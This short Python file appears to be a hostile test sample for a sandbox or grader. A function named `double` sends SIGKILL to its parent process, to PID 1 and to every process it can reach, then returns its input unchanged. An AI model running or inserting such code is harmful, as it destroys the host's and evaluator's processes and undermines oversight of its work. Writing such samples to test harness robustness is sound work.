"""Kills every process it may, the first one in its world included."""

ROW = 8
REASON = {"crash", "wrong"}
EARNS = None  # the container may die a moment later, while `line` is checked

import os
import signal


def double(x):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x
